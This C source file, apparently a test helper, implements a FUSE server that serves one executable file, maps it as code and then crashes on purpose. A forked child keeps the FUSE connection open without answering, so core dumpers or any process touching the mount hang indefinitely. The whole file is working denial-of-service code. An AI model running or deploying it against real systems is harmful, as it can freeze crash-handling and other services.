/* SPDX-License-Identifier: ISC */
/*
 * attack-fuse DIR FILE [OVERLAY]: a FUSE server of one file, "prog", with the
 * content of FILE, mounted at DIR, and below OVERLAY, by that name. It maps that file as code, takes DIR for its working
 * directory, and crashes, while a child keeps the connection open: whoever
 * touches anything below DIR from then on waits for ever.
 */
#define _GNU_SOURCE
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/uio.h>

#include <linux/fuse.h>

#include <err.h>
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define PROG 2

static int *volatile null_pointer;
static char *content;
static size_t content_len;
static int fuse, seen;

static void
answer(const struct fuse_in_header *in, int error, const void *data, size_t len)
{
	struct fuse_out_header out = { .len = (unsigned)(sizeof out + len),
	    .error = -error, .unique = in->unique };
	struct iovec iov[2] = { { &out, sizeof out }, { (void *)data, len } };

	if (writev(fuse, iov, len > 0 ? 2 : 1) == -1 && errno != ENOENT)
		warn("answer");
}

static struct fuse_attr
attributes(unsigned long node)
{
	return (struct fuse_attr){ .ino = node, .nlink = 1,
	    .mode = node == PROG ? S_IFREG | 0755 : S_IFDIR | 0755,
	    .size = node == PROG ? content_len : 0, .blksize = 4096 };
}

static void
serve_one(const struct fuse_in_header *in, const void *arg)
{
	struct fuse_init_out init = { .major = FUSE_KERNEL_VERSION,
	    .minor = 31, .max_write = 65536, .max_readahead = 65536 };
	struct fuse_entry_out entry = { .nodeid = PROG,
	    .attr = attributes(PROG) };
	struct fuse_attr_out attr = { .attr = attributes(in->nodeid) };
	struct fuse_open_out opened = { .fh = 1 };
	struct fuse_statfs_out fs = { .st = { .bsize = 4096, .frsize = 4096,
	    .namelen = 255 } };
	const struct fuse_read_in *read_in = arg;
	size_t at;

	switch (in->opcode) {
	case FUSE_INIT:
		answer(in, 0, &init, sizeof init);
		break;
	case FUSE_LOOKUP:
		if (strcmp(arg, "prog") == 0)
			answer(in, 0, &entry, sizeof entry);
		else
			answer(in, ENOENT, NULL, 0);
		break;
	case FUSE_GETATTR:
		answer(in, 0, &attr, sizeof attr);
		break;
	case FUSE_OPEN:
	case FUSE_OPENDIR:
		answer(in, 0, &opened, sizeof opened);
		break;
	case FUSE_READ:
		at = read_in->offset > content_len ? content_len :
		    (size_t)read_in->offset;
		answer(in, 0, content + at, content_len - at < read_in->size ?
		    content_len - at : read_in->size);
		break;
	case FUSE_STATFS:
		answer(in, 0, &fs, sizeof fs);
		break;
	case FUSE_FORGET:
	case FUSE_BATCH_FORGET:
		break;
	case FUSE_RELEASE:
	case FUSE_ACCESS:
		answer(in, 0, NULL, 0);
		break;
	default:
		answer(in, ENOSYS, NULL, 0);
	}
}

static void *
serve(void *arg)
{
	static char buf[1 << 20];

	(void)arg;
	for (;;) {
		ssize_t n = read(fuse, buf, sizeof buf);

		if (n <= 0)
			return NULL;
		serve_one((void *)buf, buf + sizeof(struct fuse_in_header));
	}
}

static __attribute__((noinline)) void
strike(void)
{
	*null_pointer = 7;
}

/* DIR below OVERLAY, which has a tmpfs of its own on top. */
static void
lay_over(const char *dir, const char *overlay)
{
	char options[512];

	if (mount("none", overlay, "tmpfs", 0, NULL) == -1 ||
	    chdir(overlay) == -1 || mkdir("upper", 0755) == -1 ||
	    mkdir("work", 0755) == -1 || mkdir("over", 0755) == -1)
		err(111, "make %s", overlay);
	snprintf(options, sizeof options,
	    "lowerdir=%s,upperdir=upper,workdir=work", dir);
	if (mount("attack", "over", "overlay", 0, options) == -1 ||
	    chdir("over") == -1)
		err(111, "mount an overlay of %s", dir);
}

int
main(int argc, char **argv)
{
	char options[128];
	pthread_t thread;
	pid_t holder;
	struct stat st;
	int fd;
	void *map;

	if (argc != 3 && argc != 4)
		errx(100, "usage: attack-fuse DIR FILE [OVERLAY]");
	fd = open(argv[2], O_RDONLY);
	if (fd == -1 || fstat(fd, &st) == -1)
		err(111, "open %s", argv[2]);
	content_len = (size_t)st.st_size;
	content = malloc(content_len);
	if (content == NULL || read(fd, content, content_len) == -1)
		err(111, "read %s", argv[2]);
	close(fd);
	fuse = open("/dev/fuse", O_RDWR);
	if (fuse == -1)
		err(111, "open /dev/fuse");
	snprintf(options, sizeof options,
	    "fd=%d,rootmode=40000,user_id=0,group_id=0,allow_other", fuse);
	if (mount("attack", argv[1], "fuse", MS_NOSUID | MS_NODEV, options) == -1)
		err(111, "mount %s", argv[1]);
	pthread_create(&thread, NULL, serve, NULL);
	if (argc == 4)
		lay_over(argv[1], argv[3]);
	else if (chdir(argv[1]) == -1)
		err(111, "enter %s", argv[1]);
	if ((fd = open("prog", O_RDONLY)) == -1)
		err(111, "open prog");
	/* Told once that there is no flush, the kernel does not ask again, so
	   that this process can end. */
	close(fd);
	if ((fd = open("prog", O_RDONLY)) == -1)
		err(111, "open prog again");
	map = mmap(NULL, content_len, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0);
	if (map == MAP_FAILED)
		err(111, "map prog");
	/* The kernel itself waits for what is not in memory as it dumps. */
	for (size_t i = 0; i < content_len; i += 4096)
		seen += ((volatile char *)map)[i];
	holder = fork();
	if (holder == 0) {
		/* Holds the connection, serves nobody. */
		prctl(PR_SET_NAME, "attack-holder");
		if (chdir("/") == -1)
			_exit(1);
		alarm(120);
		close(0);
		close(1);
		close(2);
		for (;;)
			pause();
	}
	printf("%ld\n", (long)holder);
	fflush(stdout);
	strike();
	return 0;
}
